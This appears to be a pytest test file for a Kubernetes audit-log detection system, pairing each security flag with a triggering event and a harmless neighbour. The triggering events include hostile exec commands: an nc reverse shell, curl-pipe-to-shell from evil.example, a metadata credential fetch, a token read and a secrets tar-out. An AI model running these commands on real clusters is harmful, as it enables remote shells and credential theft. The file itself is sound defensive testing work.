"""Event flags, one at a time: every flag of features.flags.FLAGS fires on an event a security engineer
would want it on, and stays quiet on its nearest harmless neighbour. A flag added to the registry
without a case here fails ``test_every_flag_has_a_case``."""
from __future__ import annotations

from datetime import timedelta
from urllib.parse import quote_plus

import numpy as np
import pytest

from features.events import SalvagedEvent
from features.flags import FLAG_NAMES, flag_events
from tests.factory import T0, event
from tests.features.tables import CONTEXT, event_table

SA = "system:serviceaccount:web:api"
NODE = "system:node:ip-10-0-1-17.ec2.internal"
PUBLIC, AWS, THREAT = ["198.51.100.7"], ["52.95.4.10"], ["203.0.113.66"]


def on(resource: str, verb: str = "get", namespace: str | None = "web", name: str | None = None, subresource: str | None = None,
       body: dict | None = None, **override) -> dict:
    """An event acting on ``resource``; ``body`` is its requestObject."""
    ref = {"resource": resource, "apiVersion": "v1"}
    ref.update({k: v for k, v in (("namespace", namespace), ("name", name), ("subresource", subresource)) if v is not None})
    fields = {"verb": verb, "objectRef": ref, **override}
    if body is not None:
        fields["requestObject"] = body
    return event(**fields)


def exec_in(namespace: str, command: str) -> dict:
    return on("pods", "create", namespace, "api-0", "exec",
              requestURI=f"/api/v1/namespaces/{namespace}/pods/api-0/exec?{command}&container=app&stdin=true")


def binding(role_ref: dict, subjects: list[dict], resource: str = "clusterrolebindings") -> dict:
    return on(resource, "create", None if resource == "clusterrolebindings" else "web", "b",
              body={"kind": "ClusterRoleBinding", "roleRef": role_ref, "subjects": subjects})


def role(verbs: list[str], resources: list[str]) -> dict:
    return on("clusterroles", "create", None, "r", body={"rules": [{"apiGroups": [""], "verbs": verbs, "resources": resources}]})


def webhook(resource: str, hook: dict) -> dict:
    return on(resource, "create", None, "hooks", body={"webhooks": [{"name": "h.example.com", **hook}]})


def pod(spec: dict, namespace: str = "web", verb: str = "create") -> dict:
    return on("pods", verb, namespace, "p", body={"spec": {"containers": [{"name": "app", "image": "nginx:1.25"}], **spec}})


def salvaged(raw: dict, damaged: tuple = ()) -> SalvagedEvent:
    return SalvagedEvent(raw, damaged=damaged, log_time=raw["stageTimestamp"])


def exec_uri(command: str) -> dict:
    """kubectl exec -- sh -c COMMAND, as the exec request URI carries it."""
    return on("pods", "create", "web", "web-1", "exec", stage="ResponseStarted", responseStatus={"code": 101},
              requestURI=f"/api/v1/namespaces/web/pods/web-1/exec?command=sh&command=-c&command={quote_plus(command)}&container=app")


def node_proxy(path: str, verb: str = "get") -> dict:
    return on("nodes", verb, None, "ip-10-0-1-5.ec2.internal", "proxy", requestURI=f"/api/v1/nodes/ip-10-0-1-5.ec2.internal/proxy/{path}")


def csr(signer: str, subresource: str | None = None, verb: str = "create", **extra) -> dict:
    body = {"kind": "CertificateSigningRequest", "spec": {"signerName": signer, "usages": ["client auth"]}, **extra}
    return on("certificatesigningrequests", verb, None, "c", subresource, body=body)


def can_i(verb: str, resource: str, subresource: str | None = None, namespace: str | None = None, allowed: bool = False) -> dict:
    """``kubectl auth can-i VERB RESOURCE``: a SelfSubjectAccessReview and its answer, as the API server logs it."""
    attrs = {k: v for k, v in (("namespace", namespace), ("verb", verb), ("resource", resource), ("subresource", subresource)) if v}
    body = {"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"resourceAttributes": attrs}}
    return on("selfsubjectaccessreviews", "create", None, body=body, responseObject={**body, "status": {"allowed": allowed}},
              responseStatus={"code": 201})


APPROVED = {"status": {"conditions": [{"type": "Approved", "status": "True"}]}}
OWNED_BY_JOB = {"ownerReferences": [{"kind": "Job", "name": "j", "controller": True}]}
JOB_CONTROLLER = "system:serviceaccount:kube-system:job-controller"


ANONYMOUS = {"user": {"username": "system:anonymous", "groups": ["system:unauthenticated"]}}
TO_MALLORY = [{"kind": "User", "name": "mallory"}]
CLUSTER_ADMIN = {"kind": "ClusterRole", "name": "cluster-admin", "apiGroup": "rbac.authorization.k8s.io"}
VIEW = {"kind": "ClusterRole", "name": "view", "apiGroup": "rbac.authorization.k8s.io"}
# Two requests under one auditID: the second from another identity at another time (a client-set Audit-ID).
REUSED = [event(T0, audit_id="a-1"), event(T0 + timedelta(seconds=9), audit_id="a-1", user={"username": "mallory"})]
# One request's two stages under its auditID: not a reuse.
STAGES = [event(T0, audit_id="a-2", stage="RequestReceived"), event(T0, audit_id="a-2")]

# flag: (events where it must fire on the last, events where it must not fire on the last)
CASES: dict[str, tuple[list[dict], list[dict]]] = {
    "allowed": ([event()], [event(responseStatus={"code": 403}, annotations={"authorization.k8s.io/decision": "forbid"})]),
    "denied_401": ([event(user={}, responseStatus={"code": 401}, annotations={"authorization.k8s.io/decision": None})], [event()]),
    "denied_403": ([event(responseStatus={"code": 403})], [event()]),
    "not_found_404": ([event(responseStatus={"code": 404})], [event()]),
    "conflict_409": ([event(responseStatus={"code": 409})], [event()]),
    "server_error": ([event(responseStatus={"code": 503})], [event(responseStatus={"code": 404})]),
    "read": ([event()], [on("pods", "create")]),
    "write": ([on("deployments", "patch", name="api")], [event()]),
    "list_or_watch": ([event(verb="watch")], [on("pods", "get", name="p")]),
    "delete": ([on("pods", "delete", name="p")], [event()]),
    "health_check": ([event(**ANONYMOUS, verb="get", requestURI="/livez?verbose", objectRef={})],
                     [event(verb="get", requestURI="/healthzx", objectRef={})]),
    "anonymous": ([event(**ANONYMOUS)], [event()]),
    "system_identity": ([event(user={"username": "system:kube-scheduler"})], [event()]),
    "node_identity": ([event(user={"username": NODE})], [event(user={"username": "system:kube-scheduler"})]),
    "service_account": ([event(user={"username": SA})], [event()]),
    "managed_identity": ([event(user={"username": "eks:addon-manager"})], [event(user={"username": "eks:addon-manager-2"})]),
    "source_public": ([event(sourceIPs=PUBLIC)], [event()]),
    "source_aws": ([event(sourceIPs=AWS)], [event(sourceIPs=PUBLIC)]),
    "source_private": ([event()], [event(sourceIPs=PUBLIC)]),
    "source_threat_list": ([event(sourceIPs=THREAT)], [event(sourceIPs=PUBLIC)]),
    "scripted_client": ([event(userAgent="curl/8.4.0")], [event()]),
    "secret_read": ([on("secrets", name="db-password")], [on("secrets", "create", name="db-password")]),
    "secret_denied": ([on("secrets", name="db", responseStatus={"code": 403})], [on("secrets", name="db")]),
    "secret_list_cluster_wide": ([on("secrets", "list", namespace=None)], [on("secrets", "list")]),
    "secret_kube_system": ([on("secrets", namespace="kube-system", name="aws-creds")], [on("secrets", name="aws-creds")]),
    "secret_write": ([on("secrets", "create", name="planted")], [on("secrets", name="planted")]),
    "token_request": ([on("serviceaccounts", "create", name="default", subresource="token")], [on("serviceaccounts", name="default")]),
    "csr_create": ([on("certificatesigningrequests", "create", None, "csr-1", body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client"}})],
                   [on("certificatesigningrequests", "list", None)]),
    "aws_auth_read": ([on("configmaps", namespace="kube-system", name="aws-auth")], [on("configmaps", namespace="kube-system", name="coredns")]),
    "aws_auth_write": ([on("configmaps", "patch", "kube-system", "aws-auth", body={"data": {"mapUsers": "- userarn: x"}})],
                       [on("configmaps", namespace="kube-system", name="aws-auth")]),
    "kube_system_configmap_read": ([on("configmaps", namespace="kube-system", name="coredns")], [on("configmaps", name="app-config")]),
    "configmap_credentials": ([on("configmaps", "create", name="cfg", body={"data": {"aws_secret_access_key": "x"}})],
                              [on("configmaps", "create", name="cfg", body={"data": {"color": "blue"}})]),
    "rbac_write": ([on("rolebindings", "create", name="b", body={})], [on("rolebindings", "list")]),
    "admin_binding": ([binding(CLUSTER_ADMIN, TO_MALLORY)], [binding(VIEW, TO_MALLORY)]),
    "anonymous_binding": ([binding(VIEW, [{"kind": "User", "name": "system:anonymous"}])], [binding(VIEW, TO_MALLORY)]),
    "default_sa_binding": ([binding(VIEW, [{"kind": "ServiceAccount", "namespace": "web", "name": "default"}], "rolebindings")],
                           [binding(VIEW, [{"kind": "ServiceAccount", "namespace": "web", "name": "api"}], "rolebindings")]),
    "dangerous_role": ([role(["*"], ["pods"])], [role(["get", "list"], ["pods"])]),
    "system_role_change": ([on("clusterroles", "patch", None, "system:controller:node-controller", body={})],
                           [on("clusterroles", "patch", None, "team-reader", body={})]),
    "impersonation": ([event(impersonatedUser={"username": "system:admin"})], [event()]),
    "webhook_write": ([webhook("mutatingwebhookconfigurations", {"clientConfig": {"service": {"namespace": "web", "name": "hook"}}})],
                      [on("mutatingwebhookconfigurations", "list", None)]),
    "webhook_external_url": ([webhook("mutatingwebhookconfigurations", {"clientConfig": {"url": "https://hooks.attacker.example/collect"}})],
                             [webhook("mutatingwebhookconfigurations", {"clientConfig": {"url": "https://hook.web.svc:443/mutate"}})]),
    "webhook_weakened": ([webhook("validatingwebhookconfigurations", {"failurePolicy": "Ignore", "rules": [{"operations": ["CREATE"]}]})],
                         [webhook("validatingwebhookconfigurations", {"failurePolicy": "Fail", "rules": [{"operations": ["CREATE"]}]})]),
    "exec": ([exec_in("web", "command=ls")], [on("pods", name="api-0")]),
    "exec_kube_system": ([exec_in("kube-system", "command=ls")], [exec_in("web", "command=ls")]),
    "exec_suspicious_command": ([exec_in("web", "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken")],
                                [exec_in("web", "command=ls&command=-la")]),
    "portforward": ([on("pods", "create", name="db-0", subresource="portforward")], [exec_in("web", "command=ls")]),
    "ephemeral_container": ([on("pods", "patch", name="api-0", subresource="ephemeralcontainers")],
                            [on("pods", name="api-0", subresource="ephemeralcontainers")]),
    "workload_create": ([on("deployments", "create", name="miner", body={})], [on("deployments", "patch", name="api", body={})]),
    "pod_in_system_namespace": ([pod({}, "kube-system")], [pod({})]),
    "privileged_workload": ([pod({"hostPID": True})], [pod({})]),
    "persistence_workload": ([on("cronjobs", "create", name="backup", body={})], [on("jobs", "create", name="backup", body={})]),
    "nodeport_service": ([on("services", "create", name="s", body={"spec": {"type": "NodePort"}})],
                         [on("services", "create", name="s", body={"spec": {"type": "ClusterIP"}})]),
    "permission_review": ([on("selfsubjectaccessreviews", "create", None)], [event()]),
    "anonymous_allowed": ([event(**ANONYMOUS, verb="get", requestURI="/api/v1/namespaces", objectRef={"resource": "namespaces"})],
                          [event(**ANONYMOUS, verb="get", requestURI="/healthz", objectRef={})]),
    "events_delete": ([on("events", "deletecollection")], [on("pods", "delete", name="p")]),
    "deletecollection": ([on("pods", "deletecollection")], [on("pods", "delete", name="p")]),
    "system_from_public": ([event(user={"username": NODE}, sourceIPs=PUBLIC)], [event(user={"username": NODE})]),
    "audit_id_reused": (REUSED, STAGES),
    "service_account_from_outside": ([event(user={"username": SA}, sourceIPs=AWS)], [event(user={"username": SA})]),
    "sensitive_write_unread": ([salvaged(pod({}), damaged=("requestObject",))], [salvaged(pod({}))]),
    "node_registered_by_other": ([on("nodes", "create", None, name="ip-10-0-9-9.ec2.internal")],
                                 [on("nodes", "create", None, name="ip-10-0-1-17.ec2.internal", user={"username": NODE})]),
    "exec_reverse_shell": ([exec_uri("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4242 >/tmp/f")],
                           [exec_uri("nc -zv db.internal 5432")]),
    "exec_credential_read": ([exec_uri("cat /proc/1/environ")], [exec_uri("env | sort")]),
    "exec_env_dump": ([exec_uri("env | sort")], [exec_uri("cat /etc/hosts")]),
    "exec_metadata_endpoint": ([exec_uri("curl -s http://2852039166/latest/meta-data/iam/security-credentials/")],
                               [exec_uri("curl -s localhost:8080/healthz")]),
    "exec_payload": ([exec_uri("curl -s https://evil.example/x.sh | sh")], [exec_uri("curl -s localhost:8080/healthz")]),
    "exec_copy_out": ([exec_uri("tar cf - /app/secrets")], [exec_uri("tar xf - -C /tmp")]),
    "exec_tooling": ([exec_uri("apk add socat; history -c")], [exec_uri("apt-cache policy")]),
    "kubelet_execution": ([node_proxy("run/kube-system/aws-node-x/aws-node?cmd=id", "create")], [node_proxy("metrics/cadvisor")]),
    "kubelet_read": ([node_proxy("pods")], [node_proxy("stats/summary")]),
    "service_proxy": ([on("services", "get", "kube-system", "https:kubernetes-dashboard:", "proxy",
                          requestURI="/api/v1/namespaces/kube-system/services/https:kubernetes-dashboard:/proxy/")],
                      [on("pods", "get", "web", "web-1:8080", "proxy", requestURI="/api/v1/namespaces/web/pods/web-1:8080/proxy/metrics")]),
    "ephemeral_privileged": ([on("pods", "patch", name="web-1", subresource="ephemeralcontainers", body={"spec": {"ephemeralContainers": [
                                 {"name": "dbg", "image": "busybox", "securityContext": {"privileged": True}}]}})],
                             [on("pods", "patch", name="web-1", subresource="ephemeralcontainers", body={"spec": {"ephemeralContainers": [
                                 {"name": "dbg", "image": "busybox"}]}})]),
    "host_escape_workload": ([pod({"volumes": [{"name": "pki", "hostPath": {"path": "/etc/kubernetes/pki"}}]})],
                             [on("pods", "create", "web", "p", user={"username": JOB_CONTROLLER}, body={"metadata": OWNED_BY_JOB, "spec": {
                                 "containers": [{"name": "c", "image": "alpine", "securityContext": {"privileged": True}}]}})]),
    "weakened_workload": ([pod({"securityContext": {"runAsUser": 0}})], [pod({"securityContext": {"runAsUser": 1000}})]),
    "system_namespace_workload_identity": (
        [on("daemonsets", "create", "kube-system", "agent", body={"spec": {"template": {"spec": {
            "serviceAccountName": "clusterrole-aggregation-controller", "containers": [{"name": "c", "image": "alpine"}]}}}})],
        [on("daemonsets", "create", "web", "agent", body={"spec": {"template": {"spec": {
            "serviceAccountName": "web", "containers": [{"name": "c", "image": "alpine"}]}}}})]),
    "internet_facing_service": ([on("services", "patch", "kube-system", "kube-dns", body=[{"op": "replace", "path": "/spec/type", "value": "NodePort"}])],
                                [on("services", "create", name="api", body={"spec": {"type": "LoadBalancer", "loadBalancerClass": "service.k8s.aws/nlb"}})]),
    "ingress_without_tls": ([on("ingresses", "create", name="admin", body={"spec": {"rules": [{"host": "admin.corp.example"}]}})],
                            [on("ingresses", "create", name="admin", body={"spec": {"tls": [{"hosts": ["admin.corp.example"]}],
                                                                                    "rules": [{"host": "admin.corp.example"}]}})]),
    "escalation_rights_check": ([can_i("impersonate", "users")], [can_i("get", "secrets", namespace="web")]),
    "role_dangerous_grant": ([role(["get"], ["nodes/proxy"])], [role(["get", "list"], ["nodes"])]),
    "csr_risky": ([csr("kubernetes.io/kube-apiserver-client")], [csr("kubernetes.io/kubelet-serving", user={"username": NODE})]),
    "csr_client_approved": ([csr("kubernetes.io/kube-apiserver-client", "approval", "update", **APPROVED)],
                            [csr("kubernetes.io/kubelet-serving", "approval", "update", **APPROVED)]),
}


def test_every_flag_has_a_case():
    assert set(FLAG_NAMES) - set(CASES) == set(), "add a positive and a negative case for each new flag"
    assert set(CASES) - set(FLAG_NAMES) == set(), "a case for a flag that is no longer registered"


@pytest.mark.parametrize("name", FLAG_NAMES)
def test_flag_fires_on_its_case_and_not_on_its_neighbour(name):
    positive, negative = CASES[name]
    assert flag_events(event_table(positive), CONTEXT).flags[name][-1], f"{name} did not fire"
    assert not flag_events(event_table(negative), CONTEXT).flags[name][-1], f"{name} fired on a harmless neighbour"


def test_aws_auth_patch_granting_system_masters_is_a_write_that_grants_masters():
    patch = on("configmaps", "patch", "kube-system", "aws-auth", body={"data": {
        "mapUsers": "- userarn: arn:aws:iam::444455556666:user/mallory\n  username: mallory\n  groups:\n  - system:masters\n"}})
    table = event_table([patch])
    assert flag_events(table, CONTEXT).flags["aws_auth_write"][0]
    assert table["grants_masters"][0].as_py() is True


def test_an_owner_reference_hides_a_workload_only_when_a_controller_wrote_it():
    """ownerReferences are in the body the client sends: a person's privileged pod claiming a Job as its owner is
    still the author's write; the job controller's copy of a Job's template is not."""
    privileged = {"metadata": OWNED_BY_JOB, "spec": {"containers": [{"name": "c", "image": "alpine", "securityContext": {"privileged": True}},
                                                                      {"name": "d", "image": "alpine", "securityContext": {"runAsUser": 0}}]}}
    writers = ["kubernetes-admin", "arn:aws:iam::444455556666:user/mallory", JOB_CONTROLLER, "system:kube-controller-manager"]
    table = event_table([on("pods", "create", "web", f"p{i}", user={"username": who}, body=privileged) for i, who in enumerate(writers)])
    flags = flag_events(table, CONTEXT).flags
    assert flags["host_escape_workload"].tolist() == [True, True, False, False]
    assert flags["weakened_workload"].tolist() == [True, True, False, False]
    assert flags["privileged_workload"].tolist() == [True] * 4


def test_a_privileged_pod_is_flagged_for_each_way_to_take_the_node():
    ways = [{"containers": [{"name": "a", "image": "alpine", "securityContext": {"privileged": True}}]}, {"hostNetwork": True},
            {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]},
            {"containers": [{"name": "a", "image": "alpine", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]}]
    harmless = [{"volumes": [{"name": "data", "hostPath": {"path": "/srv/data"}}]},
                {"containers": [{"name": "a", "image": "alpine", "securityContext": {"capabilities": {"add": ["CHOWN"]}}}]}]
    flags = flag_events(event_table([pod(spec) for spec in ways + harmless]), CONTEXT).flags["privileged_workload"]
    assert flags.tolist() == [True] * len(ways) + [False] * len(harmless)


def test_health_probes_from_anonymous_are_noise_but_other_anonymous_successes_are_not():
    probes = [event(**ANONYMOUS, verb="get", requestURI=uri, objectRef={}) for uri in ("/healthz", "/readyz", "/version", "/livez/ping")]
    reads = [event(**ANONYMOUS, verb="get", requestURI="/api/v1/secrets", objectRef={"resource": "secrets"})]
    flags = flag_events(event_table(probes + reads), CONTEXT).flags["anonymous_allowed"]
    assert flags.tolist() == [False] * len(probes) + [True]


def test_flag_reads_traces_the_columns_each_flag_depends_on_through_the_flags_it_reads():
    """What the bench leaves out of its naive comparison (the flags that read a written object's body) comes from
    this trace, not from a list kept by hand."""
    from features.events import EVENT_COLUMNS
    from features.flags import flag_reads

    reads = flag_reads()
    assert set(reads) == set(FLAG_NAMES)
    assert reads["allowed"] == {"decision", "code"}
    assert {"decision", "code", "request_uri"} <= reads["anonymous_allowed"]  # through allowed and health_check
    assert {"resource", "verb", "pod_privileged", "pod_sensitive_host_paths"} <= reads["privileged_workload"]
    body = {c.name for c in EVENT_COLUMNS if c.read == "body"}
    assert reads["privileged_workload"] & body and reads["admin_binding"] & body and reads["anonymous_binding"] & body
    assert not reads["allowed"] & body and not reads["anonymous_allowed"] & body


def test_a_flag_computed_alone_with_what_it_reads_is_the_flag_computed_with_all():
    """A busy hour's first pass computes only the threshold rules' flags (``flag_events(only=with_needs(...))``): each
    flag, with the earlier flags it reads, must come out as in the full registry, over every flag's cases at once."""
    from features.flags import flag_columns, with_needs

    table = event_table([raw for positive, negative in CASES.values() for raw in positive + negative])
    full = flag_events(table, CONTEXT).flags
    for name in FLAG_NAMES:
        only = with_needs({name})
        alone = flag_events(table.select([c for c in table.column_names if c in flag_columns(only)]), CONTEXT, only=only).flags
        assert np.array_equal(alone[name], full[name]), name
        assert set(alone) == only and name in only
    assert with_needs({"not_a_flag"}) == frozenset()
